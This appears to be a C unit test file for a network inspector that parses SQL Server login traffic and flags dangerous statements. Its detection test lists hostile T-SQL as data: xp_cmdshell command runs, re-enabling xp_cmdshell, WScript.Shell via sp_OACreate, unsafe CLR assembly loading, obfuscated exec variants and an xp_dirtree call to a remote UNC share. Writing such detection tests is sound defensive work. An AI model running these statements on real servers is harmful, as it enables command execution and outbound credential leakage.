/*
 * unit/inspect/test_mssql.c - log-ins of SQL Server and their outcome.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "support/dialog.h"

extern const struct inspector mssql_inspector;

static struct harness h;

static int set_up(void **state)
{
	(void)state;
	harness_init(&h, &mssql_inspector, PROTO_TCP, 40000, 1433);
	return 0;
}

static int tear_down(void **state)
{
	(void)state;
	harness_deinit(&h);
	return 0;
}

static const struct event_login *login(unsigned n)
{
	const struct event_login *e = harness_event(&h, EVENT_LOGIN, n);
	assert_non_null(e);
	return e;
}

#define PRELOGIN  "\x12\1\0\x14\0\0\0\0\0\0\6\0\6\xff\x0c\0\7\xd0\0\0"
#define PREANSWER "\4\1\0\x14\0\0\1\0\0\0\6\0\6\xff\x0c\0\7\xd0\0\0"
/* 36 bytes, host, user, secret as offset and count; then their text */
#define LOGIN7                                                                \
 "\x10\1\0\x42\0\0\1\0"                                                       \
 "\x3a\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0" \
 "\x30\0\1\0\x32\0\2\0\x36\0\2\0"                                             \
 "W\0s\0a\0\xa5\xb3\xa5\x92"
#define FAILED "\4\1\0\x13\0\x33\1\0\xaa\x08\0\x18\x48\0\0\1\x0e\0\0"

static const struct turn refused[] = { C(PRELOGIN), S(PREANSWER), C(LOGIN7), S(FAILED) };

static void a_wrong_password(void **state)
{
	(void)state;
	dialog_whole(&h, refused, DIALOG_COUNT(refused));
	assert_int_equal(harness_count(&h, EVENT_LOGIN), 1);
	assert_true(dialog_login(&h, 0, LOGIN_FAILURE, "sa"));
	assert_true(harness_str_is(login(0), &login(0)->workstation, "W"));
	assert_int_equal(login(0)->status, 18456);
	assert_true(login(0)->secret_mark != 0);
	dialog_prefixes(&h, refused, DIALOG_COUNT(refused));
}

static void an_encrypted_log_in_has_an_answer_in_the_clear(void **state)
{
	static const struct turn turns[] = {
		C(PRELOGIN),
		S(PREANSWER),
		C("\x17\3\3\0\4abcd"),
		S("\4\1\0\x0f\0\0\1\0\xad\4\0\1\x74\0\0"),
	};
	(void)state;
	dialog_whole(&h, turns, DIALOG_COUNT(turns));
	assert_true(dialog_login(&h, 0, LOGIN_SUCCESS, ""));
}

static void all_in_tls_is_not_seen(void **state)
{
	static const struct turn turns[] = {
		C(PRELOGIN),
		S(PREANSWER),
		C("\x17\3\3\0\4abcd"),
		S("\x17\3\3\0\4abcd"),
	};
	(void)state;
	dialog_whole(&h, turns, DIALOG_COUNT(turns));
	assert_int_equal(harness_count(&h, EVENT_LOGIN), 0);
	assert_int_equal(h.verdict, INSPECT_DONE);
}

#define ACCEPTED "\4\1\0\x0f\0\0\1\0\xad\4\0\1\x74\0\0"

/* A batch: 8 bytes of head, 4 that stand for headers, then the text as UTF-16. */
static size_t batch(uint8_t *dst, uint8_t type, const char *text, size_t odd)
{
	size_t n = strlen(text), len = 12 + odd + 2 * n;
	memset(dst, 0, len);
	dst[0] = type;
	dst[1] = 1;
	dst[2] = (uint8_t)(len >> 8);
	dst[3] = (uint8_t)len;
	for (size_t i = 0; i < n; i++)
		dst[12 + odd + 2 * i] = (uint8_t)text[i];
	return len;
}

static unsigned orders_of(uint8_t type, const char *text, size_t odd)
{
	static const struct turn login_turns[] = {
		C(PRELOGIN),
		S(PREANSWER),
		C("\x17\3\3\0\4abcd"),
		S(ACCEPTED),
	};
	uint8_t data[12 + 1 + 2 * 1024];
	size_t len = batch(data, type, text, odd);
	harness_deinit(&h);
	harness_init(&h, &mssql_inspector, PROTO_TCP, 40000, 1433);
	dialog_whole(&h, login_turns, DIALOG_COUNT(login_turns));
	harness_stream(&h, true, data, (uint32_t)len / 2);
	harness_stream(&h, true, data + len / 2, (uint32_t)(len - len / 2));
	return harness_count(&h, EVENT_ORDER);
}

static const struct event_order *order(unsigned n)
{
	return harness_event(&h, EVENT_ORDER, n);
}

static void orders_are_told(void **state)
{
	static const struct {
		const char *text;
		enum order_kind kind;
	} told[] = {
		{ "EXEC master..xp_cmdshell 'whoami'", ORDER_PROGRAM },
		{ "exec/**/xp_cmdshell\r\n\t\"dir\"", ORDER_PROGRAM },
		{ "-- now\nsp_configure 'xp_cmdshell', 1; RECONFIGURE", ORDER_ENABLE },
		{ "EXEC sp_OACreate 'WScript.Shell', @o OUT", ORDER_PROGRAM },
		{ "CREATE ASSEMBLY [a] FROM 0x4D5A9000 WITH PERMISSION_SET = UNSAFE", ORDER_LOAD },
		{ "declare @q varchar(99) = 'xp_cmdshell ''dir'''; exec (@q)", ORDER_PROGRAM },
		{ "select * from openquery(x, 'select 1; xp_cmdshell ''dir''')", ORDER_PROGRAM },
		{ "select '--'\nxp_cmdshell 'dir'", ORDER_PROGRAM },
		{ "exec xp_dirtree '\\\\10.0.0.5\\a'", ORDER_REACH },
		{ "sp_add_jobstep @subsystem = N'CmdExec', @command = N'x'", ORDER_PROGRAM },
	};
	(void)state;
	for (size_t i = 0; i < sizeof(told) / sizeof(told[0]); i++) {
		assert_int_equal(orders_of(1, told[i].text, 0), 1);
		assert_int_equal(order(0)->kind, told[i].kind);
		assert_true(harness_str_is(order(0), &order(0)->service, "mssql"));
	}
	assert_int_equal(orders_of(3, "xp_cmdshell 'whoami'", 1), 1);
	assert_true(harness_str_is(order(0), &order(0)->text, "xp_cmdshell 'whoami'"));
}

static void statements_of_every_day_are_silent(void **state)
{
	static const char *const texts[] = {
		"SELECT value_in_use FROM sys.configurations WHERE name = 'xp_cmdshell'",
		"exec sp_configure 'xp_cmdshell', 0",
		"exec sp_configure 'show advanced options', 1",
		"exec xp_dirtree 'D:\\Backup', 1, 1",
		"-- xp_cmdshell 'dir'",
		"/* xp_cmdshell 'dir' */ select 1",
		"select my_xp_cmdshell 'x'",
		"insert into notes values (N'how to: -- use xp_cmdshell ''dir''')",
		"CREATE ASSEMBLY a FROM 'C:\\clr\\a.dll'",
	};
	(void)state;
	for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++)
		assert_int_equal(orders_of(1, texts[i], 0), 0);
	assert_int_equal(orders_of(7, "xp_cmdshell 'whoami'", 0), 0); /* bulk data */
}

static void what_it_takes(void **state)
{
	(void)state;
	assert_true(harness_probe(&h, true, PRELOGIN, sizeof(PRELOGIN) - 1));
	assert_false(harness_probe(&h, true, PRELOGIN, sizeof(PRELOGIN) - 2));
	assert_false(harness_probe(&h, false, PRELOGIN, sizeof(PRELOGIN) - 1));
	assert_int_equal(harness_stream(&h, true, "GET / HTTP", 10), INSPECT_NOT_MINE);
}

int main(void)
{
#define T(name) cmocka_unit_test_setup_teardown(name, set_up, tear_down)
	const struct CMUnitTest tests[] = {
		T(a_wrong_password),
		T(an_encrypted_log_in_has_an_answer_in_the_clear),
		T(all_in_tls_is_not_seen),
		T(orders_are_told),
		T(statements_of_every_day_are_silent),
		T(what_it_takes),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
